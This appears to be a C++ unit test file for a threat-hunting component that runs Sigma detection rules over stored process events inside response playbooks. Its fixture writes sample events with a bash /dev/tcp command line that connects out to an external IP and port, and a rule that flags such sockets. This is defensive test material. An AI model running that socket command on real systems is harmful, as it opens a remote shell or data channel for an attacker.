#include "daemon/app/live/hunt_desk.h"

#include <gtest/gtest.h>

#include "collectors/base/base64.h"
#include "collectors/event/field_table.h"
#include "daemon/store/segment/writer.h"
#include "responders/action/table.h"
#include "responders/playbook/run/run.h"
#include "tests/unit/daemon/store/scratch.h"
#include "tests/unit/responders/incident/samples.h"
#include "tests/unit/responders/playbook/example.h"

namespace tocsin::daemon {
namespace {

using responders::CommandAnswer;
using responders::CommandRequest;
using samples::at;
using State = CommandAnswer::State;

constexpr std::string_view shell_rule =
    "title: A shell with a socket\nid: 0b1a6a1c-0000-4000-8000-000000000001\nstatus: test\n"
    "logsource: {product: linux, category: process_creation}\n"
    "detection: {s: {CommandLine|contains: /dev/tcp/}, condition: s}\nlevel: high\n";
constexpr std::string_view burst_rule =
    "title: One start\nname: one_start\nlogsource: {product: linux, category: process_creation}\n"
    "detection: {s: {CommandLine|contains: id}, condition: s}\n---\n"
    "title: Many starts\nid: 0b1a6a1c-0000-4000-8000-000000000002\n"
    "correlation: {type: event_count, rules: [one_start], group-by: [host.name], timespan: 1m, condition: {gte: 3}}\n"
    "level: high\n";

// A store with starts of processes: every ten seconds one, the last at second 990, two of them with a socket.
class HuntDeskTest : public ::testing::Test {
 protected:
  void SetUp() override {
    FieldNames names;
    auto writer = SegmentWriter::open(scratch_.path() / "events", {}, {});
    ASSERT_TRUE(writer) << writer.error().text();
    for (std::int64_t second = 0; second < 1000; second += 10) {
      EventBatch batch;
      EventBuilder builder(batch);
      builder.set(field::process_command_line,
                  second == 20 || second == 900 ? "bash -c 'cat </dev/tcp/203.0.113.9/4444'" : "/usr/bin/id");
      EventHeader header;
      header.id = hash128(std::to_string(second));
      header.observed = at(second);
      header.event_class = EventClass::process;
      header.host = second == 20 ? "web1" : "web2";
      ASSERT_TRUE((*writer)->append(builder.finish(header, ""), names));
    }
    ASSERT_TRUE((*writer)->flush());
  }
  HuntPlace place() const { return {scratch_.path(), {std::string(TOCSIN_SOURCE_DIR) + "/rules/sigma/views"}, {}}; }

  static std::string playbook(std::string_view rules, std::string_view hours = "24") {
    return responders::playbook_with(
        "\"" + responders::step_id("action", 1) +
            R"(":{"type":"action","name":"hunt","commands":[{"type":"sigma","command_b64":")" + to_base64(rules) +
            R"("}],"in_args":["__hours__"],"out_args":["__matches__","__hosts__","__complete__"],)"
            R"("agent":"individual--aaaaaaaa-0000-4000-8000-0000000000ee",)" +
            responders::to("on_completion", responders::end_id) + "}",
        R"("__hours__":{"type":"integer","value":")" + std::string(hours) +
            R"("},"__matches__":{"type":"integer"},"__hosts__":{"type":"string"},"__complete__":{"type":"bool"})");
  }
  static CommandRequest request(const std::string& text, std::string hours = "24") {
    CommandRequest out;
    out.key = "hunt-1";
    out.playbook = std::make_shared<const std::string>(text);
    out.step = responders::step_id("action", 1);
    out.type = "sigma";
    out.values = {{"__hours__", responders::VariableType::integer, std::move(hours)}};
    return out;
  }
  static Result<CommandAnswer> whole(HuntDesk& desk, const CommandRequest& asked) {
    auto answer = desk.run(asked);
    while (answer && answer->state == State::running) {
      std::this_thread::yield();
      answer = desk.run(asked);
    }
    return answer;
  }

  samples::Scratch scratch_;
  ManualClock clock_{at(1000)};
};

TEST_F(HuntDeskTest, finds_what_the_store_holds) {
  HuntDesk desk(place(), clock_, nullptr);
  const auto answer = whole(desk, request(playbook(shell_rule)));
  ASSERT_TRUE(answer) << answer.error().text();
  EXPECT_EQ(answer->state, State::done) << answer->summary;
  const auto values = responders::values_of({"__matches__", "__hosts__", "__complete__", "__events__"}, *answer);
  EXPECT_EQ(
      values,
      (std::vector<std::pair<std::string, std::string>>{
          {"__matches__", "2"}, {"__hosts__", R"(["web1","web2"])"}, {"__complete__", "true"}, {"__events__", "100"}}));
  EXPECT_NE(answer->output.find(R"("rule":"A shell with a socket","id":"0b1a6a1c)"), std::string::npos);
  EXPECT_NE(answer->output.find(render_digest(hash128("900"))), std::string::npos) << answer->output;
}

TEST_F(HuntDeskTest, looks_back_as_many_hours_as_it_is_told) {
  clock_.advance_to(at(900 + 3600 - 5));  // an hour ago: five seconds before the second of them
  HuntDesk desk(place(), clock_, nullptr);
  const auto answer = whole(desk, request(playbook(shell_rule), "1"));
  ASSERT_TRUE(answer) << answer.error().text();
  EXPECT_EQ(answer->outputs.front().second, "1") << answer->output;
  EXPECT_NE(answer->output.find(R"("hosts":["web2"])"), std::string::npos);
  for (const char* hours : {"0", "745", "-1"})
    EXPECT_EQ(desk.judge(request(playbook(shell_rule), hours))->kind, responders::GuardVerdict::Kind::refused) << hours;
}

TEST_F(HuntDeskTest, correlations_count_over_time) {
  HuntDesk desk(place(), clock_, nullptr);
  const auto answer = whole(desk, request(playbook(burst_rule)));
  ASSERT_TRUE(answer) << answer.error().text();
  EXPECT_NE(answer->output.find("Many starts"), std::string::npos) << answer->summary << answer->output;
}

TEST_F(HuntDeskTest, what_cannot_be_looked_at_whole_says_so) {
  HuntLimits limits{.since = at(0), .until = at(1000), .events_most = 50};
  const auto few = hunt_events(place(), shell_rule, limits);
  ASSERT_TRUE(few) << few.error().text();
  EXPECT_NE(few->cut.find("50 events"), std::string::npos) << few->cut;
  EXPECT_NE(render_json(*few).find(R"("complete":false)"), std::string::npos);
  const std::atomic<bool> stop{true};
  limits.stop = &stop;
  EXPECT_EQ(hunt_events(place(), shell_rule, limits).error().code, Code::conflict);
  limits.stop = nullptr;
  const std::string deaf = responders::replaced(std::string(shell_rule), "product: linux", "product: teapot");
  EXPECT_EQ(hunt_events(place(), deaf, limits).error().code, Code::invalid);
}

TEST_F(HuntDeskTest, rules_that_do_not_compile_are_refused) {
  HuntDesk desk(place(), clock_, nullptr);
  const auto verdict = desk.judge(request(playbook("title: x")));
  ASSERT_TRUE(verdict);
  EXPECT_EQ(verdict->kind, responders::GuardVerdict::Kind::refused);
  EXPECT_EQ(desk.run(request(playbook("title: x"))).error().code, Code::denied);
}

class Elsewhere final : public responders::CommandGateway {
 public:
  bool carries_out(std::string_view type) const noexcept override { return type == "bash"; }
  Result<responders::GuardVerdict> judge(const CommandRequest&) override { return responders::GuardVerdict{}; }
  Result<CommandAnswer> run(const CommandRequest&) override { return CommandAnswer{State::done, "there", {}, {}}; }
  void cancel(const std::string& key) override { cancelled = key; }
  std::string cancelled;
};

TEST_F(HuntDeskTest, other_commands_go_to_the_runner) {
  CommandRequest asked = request(playbook(shell_rule));
  asked.type = "bash";
  HuntDesk alone(place(), clock_, nullptr);
  EXPECT_TRUE(alone.carries_out("sigma"));
  EXPECT_FALSE(alone.carries_out("bash"));
  EXPECT_EQ(alone.judge(asked)->kind, responders::GuardVerdict::Kind::refused);
  EXPECT_EQ(alone.run(asked).error().code, Code::denied);
  Elsewhere runner;
  HuntDesk both(place(), clock_, &runner);
  EXPECT_TRUE(both.carries_out("bash"));
  EXPECT_EQ(both.run(asked)->summary, "there");
  both.cancel("one");
  EXPECT_EQ(runner.cancelled, "one");
}

class NoJournal final : public responders::RunJournal {
 public:
  Result<void> append(std::span<const responders::RunRecord>) override { return {}; }
};

TEST_F(HuntDeskTest, a_run_takes_the_hits_as_variables) {
  Diagnostics diagnostics;
  const auto plan = responders::load_playbook(playbook(shell_rule), "test.json", diagnostics);
  ASSERT_TRUE(plan);
  HuntDesk desk(place(), clock_, nullptr);
  responders::OfflineGateway nobody;
  NoJournal journal;
  responders::RunSpec spec;
  spec.id = "run";
  spec.plan = *plan;
  spec.mode = responders::RunMode::apply;
  spec.reason = "because";
  const auto run = responders::Run::start(std::move(spec), nobody, journal, clock_, nullptr, {}, &desk);
  ASSERT_TRUE(run) << run.error().text();
  auto state = (*run)->poll();
  for (int i = 0; i < 100'000 && state && *state == responders::RunState::running; ++i) {
    std::this_thread::yield();
    clock_.advance_to((*run)->wake_at().value_or(clock_.now()));
    state = (*run)->poll();
  }
  ASSERT_TRUE(state);
  EXPECT_EQ(*state, responders::RunState::completed);
  std::string told;
  for (const auto& step : (*run)->trace()) told += responders::render_json(step);
  EXPECT_NE(told.find("2 matches in 100 events"), std::string::npos) << told;
}

}  // namespace
}  // namespace tocsin::daemon
